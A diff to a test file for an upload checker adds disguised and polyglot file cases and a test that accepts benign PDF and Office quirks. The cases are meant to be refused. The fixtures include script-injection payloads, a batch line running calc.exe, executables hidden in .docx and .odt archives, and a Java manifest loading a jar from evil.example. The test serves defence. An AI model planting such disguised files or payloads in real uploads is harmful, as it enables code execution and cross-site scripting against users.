@@ -102,6 +102,12 @@ def lying() -> bytes:
     return data[:start] + entries + tail
 
 
+#: How archives, old Office documents, texts, pictures, programs of the Macintosh, scripts and printouts begin.
+BEFORE_A_PDF = [
+    b"Rar!\x1a\7\0", b"7z\xbc\xaf\x27\x1c", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1 ", b"\xff\xd8\xff\xe0",
+    b"\xcf\xfa\xed\xfe", b"@echo off\r\ncalc.exe\r\n", b"import os\n", b"alert(1)//", b"%!PS-Adobe-3.0\n", b"\0",
+    zipped({"a": b"a"}, pack=zipfile.ZIP_STORED), b"\r\n" + zipped({"a": b"a"}), b" " * 1024,
+]  # fmt: skip
 HARMFUL = [
     ("page.html", b"<!doctype html><script>alert(1)</script>", "can't be taken"),
     ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "can't be taken"),
@@ -152,6 +158,14 @@ HARMFUL = [
     ),
     ("table.docx", zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"x"}), "no readable Word"),
     ("cut.docx", word()[:-30], "no readable Word"),
+    ("java.docx", word(**{"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), "has programs"),
+    ("list.docx", word(**{"META-INF/MANIFEST.MF": b"Class-Path: https://evil.example/x.jar"}), "has programs"),
+    ("evil.odt", writer(**{"Pictures/Evil.EXE": b"MZ"}), "has programs"),
+    ("page.docx", word() + b"<html><script>alert(1)</script>", "no readable Word"),
+    ("zeros.docx", word() + b"<html>" + bytes(22), "no readable Word"),
+    ("two.docx", word() + word(), "no readable Word"),
+    ("words.docx", word()[:-2] + b"\x06\0<html>", "no readable Word"),
+    *((f"{number}.pdf", before + b"%PDF-1.7", "no readable PDF") for number, before in enumerate(BEFORE_A_PDF)),
     ("late.pdf", b"//x\n<html><script>%PDF-1.7", "no readable PDF"),
     ("behind.pdf", b"\n" * 80 + b"PK\x03\x04 %PDF-1.7", "no readable PDF"),
     ("program.txt", b"MZ\x90\x03\x01 program", "no readable text"),
@@ -167,6 +181,14 @@ def test_harmful_files_are_refused_in_a_sentence(town: Town, clerk: Actor) -> No
         assert str(refused.value).startswith(f"“{name}”")
     assert town.system.attachment.select().count() == 0
     assert [path for path in (town.instance / "files").rglob("*") if path.is_file()] == []
+
+
+def test_what_programs_write_by_themselves_is_taken(town: Town, clerk: Actor) -> None:
+    """A mark of the byte order and blank lines before a PDF, and lines behind its end, make it nothing else."""
+    for content in (b"%PDF-1.7", b"\xef\xbb\xbf\r\n\r\n%PDF-1.4\n%%EOF\r\n\r\n"):
+        assert town.files.stage(clerk, Sent("a.pdf", content)).media_type == "application/pdf"
+    for name, content in (("a.docx", word()), ("a.odt", writer(**{"META-INF/manifest.xml": b"<x/>"}))):
+        assert town.files.stage(clerk, Sent(name, content)).size == len(content)
 
 
 def test_every_picture_cut_short_anywhere_is_refused_or_read(town: Town) -> None:
